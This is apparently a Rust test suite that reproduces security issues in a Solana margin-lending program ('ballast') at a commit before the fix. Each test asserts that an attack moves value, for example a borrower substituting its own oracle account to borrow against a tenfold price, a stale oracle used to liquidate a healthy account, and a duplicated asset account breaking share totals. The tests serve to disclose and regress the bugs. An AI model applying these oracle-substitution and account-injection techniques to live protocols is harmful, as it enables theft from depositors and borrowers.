//! Issue 9's attacks against the program before the fix (commit 0d96795): each asserts that the
//! attack SUCCEEDS and value moves. Run from a worktree of that commit.

use crate::margin::{basket, Basket, ETH, SOL, USDC, USDT};
use anchor_lang::prelude::Pubkey;
use ballast::state::AssetConfig;
use ballast_tests::*;
use solana_instruction::AccountMeta;
use solana_keypair::Keypair;
use solana_signer::Signer;

async fn setup() -> (Basket, Keypair, Pubkey) {
    let mut b = basket().await;
    b.env.borrow(&b.trader, b.account, USDT, b.wallets[USDT], 3_000_000_000).await.unwrap();
    let (liquidator, liq_account) = b.env.new_trader().await;
    let w = b.env.funded_token_account(liquidator.pubkey(), USDC, 100_000_000_000).await;
    b.env.deposit(&liquidator, liq_account, USDC, w, 100_000_000_000).await.unwrap();
    (b, liquidator, liq_account)
}

#[tokio::test]
async fn attack_1_stale_collateral_oracle_liquidates_a_healthy_account() {
    let (mut b, liquidator, liq_account) = setup().await;
    let maint = b.env.health(b.account, HealthType::Maint, OraclePolicy::Liquidation).await;
    assert!(maint > I80F48::from_num(600_000_000u64));
    let feed = b.env.asset_state(ETH).await.config.feed_id;
    let now = b.env.now().await;
    let oracle = b.env.assets[ETH].oracle;
    b.env.set_account(oracle, pyth::pull_account(feed, 2_000.0, 0.0, now - 61)).await;
    let before = b.env.native_balance(b.account, USDC).await;
    b.env.liquidate(&liquidator, liq_account, b.account, USDT, u64::MAX, 10_000).await.unwrap();
    let after = b.env.native_balance(b.account, USDC).await;
    println!("ATTACK 1 works: healthy account (Maint {maint}) lost {} USDC units", before - after);
    assert!(after < before);
}

#[tokio::test]
async fn attack_2_repeated_asset_breaks_the_share_totals() {
    let (mut b, liquidator, liq_account) = setup().await;
    b.env.set_price(SOL, 70.0, 0.0).await;
    b.env.set_price(ETH, 1_500.0, 0.0).await;
    let mut ix = b.env.liquidate_ix(liquidator.pubkey(), liq_account, b.account, USDT, u64::MAX, 10_000).await;
    let n = (ix.accounts.len() - 4) / 2;
    ix.accounts.insert(4 + n, AccountMeta::new(b.env.assets[USDC].asset, false));
    ix.accounts.push(AccountMeta::new_readonly(b.env.assets[USDC].oracle, false));
    b.env.send(&[ix], &[&liquidator]).await.unwrap();
    let recorded = b.env.asset_state(USDC).await.deposit_shares.get();
    let insurance = b.env.asset_state(USDC).await.insurance_fund.get();
    let mut sum = I80F48::ZERO;
    for acc in [b.account, liq_account, b.lp_account] {
        let m = b.env.margin_account(acc).await;
        for p in m.active_positions().filter(|p| p.asset_index == USDC as u16 && p.shares() > I80F48::ZERO) {
            sum += p.shares();
        }
    }
    println!("ATTACK 2 works: USDC recorded deposit shares {recorded} vs positions {sum}; insurance {insurance} (the bonus share was lost)");
    assert_ne!(recorded, sum);
}

#[tokio::test]
async fn attack_3_borrower_chooses_an_oracle_account() {
    let Basket { mut env, trader, account, wallets, .. } = basket().await;
    let feed = env.asset_state(SOL).await.config.feed_id;
    let now = env.now().await;
    let chosen = Pubkey::new_unique();
    env.set_account(chosen, pyth::pull_account(feed, 1_000.0, 0.0, now)).await;
    let mut ix = env.borrow_ix(trader.pubkey(), account, USDT, wallets[USDT], 9_000_000_000).await;
    let sol_oracle = env.assets[SOL].oracle;
    for m in ix.accounts.iter_mut().filter(|m| m.pubkey == sol_oracle) {
        m.pubkey = chosen;
    }
    env.send(&[ix], &[&trader]).await.unwrap();
    println!("ATTACK 3 works: borrowed 9,000 USDT against 10 SOL priced at $1,000 (really $100)");
}

#[tokio::test]
async fn attack_4_cured_account_keeps_its_old_episode() {
    let (mut b, liquidator, liq_account) = setup().await;
    b.env.set_price(SOL, 70.0, 0.0).await;
    b.env.set_price(ETH, 1_500.0, 0.0).await;
    b.env.liquidate(&liquidator, liq_account, b.account, USDT, 100_000_000, 10_000).await.unwrap();
    let started = b.env.margin_account(b.account).await.liquidation_start_ts;
    let w = b.env.funded_token_account(b.trader.pubkey(), USDC, 1_000_000_000).await;
    let trader = b.trader.insecure_clone();
    b.env.deposit(&trader, b.account, USDC, w, 1_000_000_000).await.unwrap();
    assert_eq!(b.env.margin_account(b.account).await.being_liquidated, 1);
    b.env.advance_time(3_600).await;
    for (i, p) in [1.0, 20.0, 500.0, 1.0].into_iter().enumerate() {
        b.env.set_price(i, p, 0.0).await;
    }
    b.env.liquidate(&liquidator, liq_account, b.account, USDT, 100_000_000, 10_000).await.unwrap();
    let state = b.env.margin_account(b.account).await;
    println!("ATTACK 4 works: the new crash is liquidated as the old episode (start {started}, now {}): maximum bonus at once", b.env.now().await);
    assert_eq!(state.liquidation_start_ts, started);
}

#[tokio::test]
async fn attack_5_one_move_sets_sigma() {
    let mut env = TestEnv::new().await;
    let cfg = AssetConfig { sigma_floor_bps: 5_000, liquidation_horizon_secs: 3_600, vol_sample_interval_secs: 3_600, ..default_config() };
    env.list_asset(SPL_TOKEN, 9, 100.0, cfg).await;
    env.update_volatility(0).await.unwrap();
    env.advance_time(3_600).await;
    env.set_price(0, 105.0, 0.0).await;
    env.update_volatility(0).await.unwrap();
    let sigma: f64 = env.asset_state(0).await.realized_variance.get().sqrt().to_num();
    println!("ATTACK 5 works: one 5% hourly move sets sigma to {:.0}%", sigma * 100.0);
    assert!(sigma > 4.0);
}

#[tokio::test]
async fn attack_8_dust_deposit_blocks_the_write_off() {
    let (mut b, liquidator, liq_account) = setup().await;
    b.env.set_price(SOL, 1e-6, 0.0).await;
    b.env.set_price(ETH, 1e-6, 0.0).await;
    b.env.liquidate(&liquidator, liq_account, b.account, USDT, u64::MAX, 10_000).await.unwrap();
    let trader = b.trader.insecure_clone();
    let w = b.env.funded_token_account(trader.pubkey(), USDC, 1).await;
    b.env.deposit(&trader, b.account, USDC, w, 1).await.unwrap();
    let r = b.env.resolve_bankruptcy(b.account, USDT).await;
    println!("ATTACK 8 works: after a 1-unit deposit the write-off fails: {r:?}");
    assert_ballast_error(&r, BallastError::NotBankrupt);
}

#[tokio::test]
async fn attack_12_total_socialisation_zeroes_the_index() {
    let mut env = TestEnv::new().await;
    env.list_asset(SPL_TOKEN, 9, 100.0, default_config()).await;
    env.list_asset(SPL_TOKEN, 6, 1.0, crate::margin::stable_config()).await;
    let (lp, lp_account) = env.new_trader().await;
    let w = env.funded_token_account(lp.pubkey(), 1, 1_000_000_000).await;
    env.deposit(&lp, lp_account, 1, w, 1_000_000_000).await.unwrap();
    let (trader, account) = env.new_trader().await;
    let sol = env.funded_token_account(trader.pubkey(), 0, 100_000_000_000).await;
    env.deposit(&trader, account, 0, sol, 100_000_000_000).await.unwrap();
    let usdt = env.funded_token_account(trader.pubkey(), 1, 0).await;
    env.borrow(&trader, account, 1, usdt, 1_000_000_000).await.unwrap();
    // no collateral left: withdraw is impossible, so empty the account by a liquidation at ~0
    env.set_price(0, 1e-6, 0.0).await;
    let (liq, liq_account) = env.new_trader().await;
    let lw = env.funded_token_account(liq.pubkey(), 0, 1_000_000_000_000).await;
    env.deposit(&liq, liq_account, 0, lw, 1_000_000_000_000).await.unwrap();
    let _ = env.liquidate(&liq, liq_account, account, 1, u64::MAX, 0).await;
    if env.margin_account(account).await.active_positions().any(|p| p.shares() > I80F48::ZERO) {
        println!("ATTACK 12: could not empty the collateral on the old code; skipped");
        return;
    }
    env.resolve_bankruptcy(account, 1).await.unwrap();
    let index = env.asset_state(1).await.deposit_index.get();
    let (late, late_account) = env.new_trader().await;
    let w = env.funded_token_account(late.pubkey(), 1, 5_000_000).await;
    let r = env.deposit(&late, late_account, 1, w, 5_000_000).await;
    println!("ATTACK 12 works: deposit index {index}; a later deposit: {r:?}");
    assert!(r.is_err());
}

#[tokio::test]
async fn attack_13_min_ratio_counts_the_insurance_share() {
    let (mut b, liquidator, liq_account) = setup().await;
    b.env.set_price(SOL, 70.0, 0.0).await;
    b.env.set_price(ETH, 1_500.0, 0.0).await;
    b.env.liquidate(&liquidator, liq_account, b.account, USDT, u64::MAX, 10_090).await.unwrap();
    println!("ATTACK 13 works: a liquidator asking for 1.009 accepted a leg that pays it 1.008");
}
